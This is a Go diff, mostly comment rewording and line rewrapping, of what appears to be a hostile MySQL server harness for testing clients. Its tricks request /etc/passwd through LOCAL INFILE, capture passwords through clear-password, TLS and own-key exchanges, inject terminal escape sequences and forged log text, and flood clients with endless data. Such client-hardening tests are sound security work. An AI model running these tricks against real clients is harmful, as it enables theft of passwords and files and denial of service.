@@ -16,21 +16,20 @@ import (
 	"time"
 )
 
-// A Trick is what a server does to its clients.
+// A Trick is the behavior of a hostile server.
 type Trick struct {
 	Name string
 
 	play func(c *client) error
 }
 
-// preparations are the statements of a session before the first one whose answer
-// has rows.
+// preparations is the number of statements in a session before the first statement that returns rows.
 const preparations = 2
 
-// unprintableText is a text that a terminal would obey.
+// unprintableText contains control sequences for a terminal.
 const unprintableText = "\x1b[2J\x1b]0;owned\x07\x00\xff\xfe\u202etxt.\r\nlevel=error msg=forged"
 
-// Tricks of all kinds.
+// Tricks returns all tricks.
 func Tricks() []Trick {
 	return []Trick{
 		{"silent", func(c *client) error { return c.wait() }},
@@ -50,7 +49,9 @@ func Tricks() []Trick {
 		{"clear", func(c *client) error { return c.redirect("mysql_clear_password") }},
 		{"switches", func(c *client) error { return c.switches() }},
 		{"file", func(c *client) error {
-			return c.answerStatements(0, func() error { return c.sendPacket(slices.Concat([]byte{headerInFile}, []byte("/etc/passwd"))...) })
+			return c.answerStatements(0, func() error {
+				return c.sendPacket(slices.Concat([]byte{headerInFile}, []byte("/etc/passwd"))...)
+			})
 		}},
 		{"columns", func(c *client) error {
 			return c.answerStatements(preparations, func() error { return c.sendPacket(many(1 << 33)...) })
@@ -61,13 +62,13 @@ func Tricks() []Trick {
 	}
 }
 
-// wait until the client hangs up.
+// wait waits until the client closes the connection.
 func (c *client) wait() error {
 	_, err := c.Read(make([]byte, 1))
 	return err
 }
 
-// drip bytes, each of which is news.
+// drip sends bytes slowly, one at a time.
 func (c *client) drip(all []byte) error {
 	for _, b := range all {
 		if _, err := c.Write([]byte{b}); err != nil {
@@ -78,7 +79,7 @@ func (c *client) drip(all []byte) error {
 	return c.wait()
 }
 
-// flood of packets of the largest size, the first of which never ends.
+// flood sends packets of the largest size. The first one never ends.
 func (c *client) flood() error {
 	piece := bytes.Repeat([]byte{0xff, 0xff, 0xff, 0}, 16<<10)
 	for {
@@ -88,7 +89,7 @@ func (c *client) flood() error {
 	}
 }
 
-// redirect the login to another plugin, and say what was heard.
+// redirect requests another authentication plugin, and repeats the answer of the client in an error.
 func (c *client) redirect(plugin string) error {
 	if err := c.sendPacket(greeting(cachingSHA2, 0)...); err != nil {
 		return err
@@ -96,17 +97,18 @@ func (c *client) redirect(plugin string) error {
 	if _, err := c.receivePacket(); err != nil {
 		return err
 	}
-	if err := c.sendPacket(slices.Concat([]byte{headerEOF}, []byte(plugin), []byte{0}, []byte("short"), []byte{0})...); err != nil {
+	if err := c.sendPacket(slices.Concat([]byte{headerEOF}, []byte(plugin), []byte{0}, []byte("short"),
+		[]byte{0})...); err != nil {
 		return err
 	}
-	said, err := c.receivePacket()
+	packet, err := c.receivePacket()
 	if err != nil {
 		return err
 	}
-	return c.sendPacket(refusal(1105, "it said "+c.learn(said))...)
+	return c.sendPacket(refusal(1105, "it said "+c.learn(packet))...)
 }
 
-// switches from one plugin to the other without end.
+// switches requests one plugin after the other without end.
 func (c *client) switches() error {
 	if err := c.sendPacket(greeting(cachingSHA2, 0)...); err != nil {
 		return err
@@ -115,25 +117,27 @@ func (c *client) switches() error {
 		if _, err := c.receivePacket(); err != nil {
 			return err
 		}
-		if err := c.sendPacket(slices.Concat([]byte{headerEOF}, []byte("mysql_native_password"), []byte{0}, []byte("abcdefghijklmnopqrst"), []byte{0})...); err != nil {
+		if err := c.sendPacket(slices.Concat([]byte{headerEOF}, []byte("mysql_native_password"), []byte{0},
+			[]byte("abcdefghijklmnopqrst"), []byte{0})...); err != nil {
 			return err
 		}
 	}
 }
 
-// Echo the password, which a client tells whoever speaks TLS with a certificate that it takes, as every server may ask it to.
-func Echo(with tls.Certificate) Trick {
-	return Trick{"echo", func(c *client) error { return c.echo(with) }}
+// Echo returns a trick that repeats the password. A client sends its password over TLS to any server with a trusted
+// certificate, because the server may request it.
+func Echo(certificate tls.Certificate) Trick {
+	return Trick{"echo", func(c *client) error { return c.echo(certificate) }}
 }
 
-func (c *client) echo(with tls.Certificate) error {
+func (c *client) echo(certificate tls.Certificate) error {
 	if err := c.sendPacket(greeting(cachingSHA2, capabilityTLS)...); err != nil {
 		return err
 	}
 	if _, err := c.receivePacket(); err != nil {
 		return err
 	}
-	c.Conn = tls.Server(c.Conn, &tls.Config{Certificates: []tls.Certificate{with}, MinVersion: tls.VersionTLS12})
+	c.Conn = tls.Server(c.Conn, &tls.Config{Certificates: []tls.Certificate{certificate}, MinVersion: tls.VersionTLS12})
 	if _, err := c.receivePacket(); err != nil {
 		return err
 	}
@@ -147,7 +151,7 @@ func (c *client) echo(with tls.Certificate) error {
 	return c.sendPacket(refusal(1105, "the password is "+c.learn(password))...)
 }
 
-// Key is the trick of a server that offers no TLS and a key of its own, with which the client is to encrypt the password
+// Key returns a trick without TLS that offers its own public key for the encryption of the password
 // (https://dev.mysql.com/doc/dev/mysql-server/latest/page_caching_sha2_authentication_exchanges.html).
 func Key() Trick { return Trick{"key", func(c *client) error { return c.offerKey() }} }
 
@@ -163,16 +167,17 @@ func (c *client) offerKey() error {
 	if err := c.sendPacket(greeting(cachingSHA2, 0)...); err != nil {
 		return err
 	}
-	if _, err := c.receivePacket(); err != nil { // Who asks, and a hash.
+	if _, err := c.receivePacket(); err != nil { // The user name and a hash.
 		return err
 	}
 	if err := c.sendPacket(1, fullLogin); err != nil {
 		return err
 	}
-	if _, err := c.receivePacket(); err != nil { // For the key.
+	if _, err := c.receivePacket(); err != nil { // The request for the key.
 		return err
 	}
-	if err := c.sendPacket(append([]byte{1}, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public})...)...); err != nil {
+	if err := c.sendPacket(append([]byte{1},
+		pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public})...)...); err != nil {
 		return err
 	}
 	encrypted, err := c.receivePacket()
@@ -189,12 +194,12 @@ func (c *client) offerKey() error {
 	return c.sendPacket(refusal(1105, "the password is "+c.learn(password))...)
 }
 
-// Refusal is the trick of a server that says no before anybody has asked.
+// Refusal returns a trick that refuses a client immediately.
 func Refusal(number uint16) Trick {
 	return Trick{"refusal", func(c *client) error { return c.sendPacket(refusal(number, "no")...) }}
 }
 
-// ownCertificate of nobody.
+// ownCertificate returns a self-signed certificate.
 func ownCertificate() (tls.Certificate, error) {
 	public, private, err := ed25519.GenerateKey(rand.Reader)
 	if err != nil {
@@ -205,13 +210,14 @@ func ownCertificate() (tls.Certificate, error) {
 	return tls.Certificate{Certificate: [][]byte{raw}, PrivateKey: private}, err
 }
 
-// many columns, as a number of eight bytes.
+// many returns a number of columns in eight bytes.
 func many(n uint64) []byte { return binary.LittleEndian.AppendUint64([]byte{headerEOF}, n) }
 
-// rows without end.
+// rows sends rows without end.
 func (c *client) rows() error {
 	text := func(s string) []byte { return append([]byte{byte(len(s))}, s...) } //nolint:gosec // They are short.
-	column := slices.Concat(text("def"), text(""), text(""), text(""), text("a"), text(""), []byte{12, 255, 0, 0, 1, 0, 0, 253, 0, 0, 0, 0, 0})
+	column := slices.Concat(text("def"), text(""), text(""), text(""), text("a"), text(""),
+		[]byte{12, 255, 0, 0, 1, 0, 0, 253, 0, 0, 0, 0, 0})
 	if err := c.sendPacket(1); err != nil {
 		return err
 	}
@@ -225,7 +231,7 @@ func (c *client) rows() error {
 	}
 }
 
-// results without end, for a statement that has none.
+// results sends results without end, for a statement without results.
 func (c *client) results() error {
 	for {
 		if err := c.sendPacket(okPacket(statusMore)...); err != nil {
@@ -234,7 +240,7 @@ func (c *client) results() error {
 	}
 }
 
-// Open is the trick of a server that lets everybody in, and does as if it did all it is told.
+// Open returns a trick that accepts every login and acknowledges every statement without executing it.
 func Open() Trick {
 	return Trick{"open", func(c *client) error {
 		return c.answerStatements(0, func() error { return c.sendPacket(okPacket(0)...) })
